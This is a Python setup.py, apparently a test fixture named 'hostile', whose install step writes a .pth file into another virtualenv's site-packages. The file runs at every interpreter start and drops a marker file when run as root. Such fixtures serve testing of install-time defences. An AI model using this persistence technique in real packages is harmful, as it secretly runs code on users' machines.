"""Lays a trap while it is installed: whoever starts the project's interpreter next, falls into it."""

import glob
import os
import tempfile

from setuptools import setup

marks = os.path.join(tempfile.gettempdir(), "marks")
os.makedirs(marks, exist_ok=True)
scratch = os.path.dirname(tempfile.gettempdir())
for folder in glob.glob(os.path.join(scratch, "environment", "lib", "python*", "site-packages")):
    with open(os.path.join(folder, "installed.pth"), "w") as file:
        file.write(f"import os; os.geteuid() or open({os.path.join(marks, 'sprung-install')!r}, 'w')\n")

setup(name="hostile", version="1.0", py_modules=["victim"])
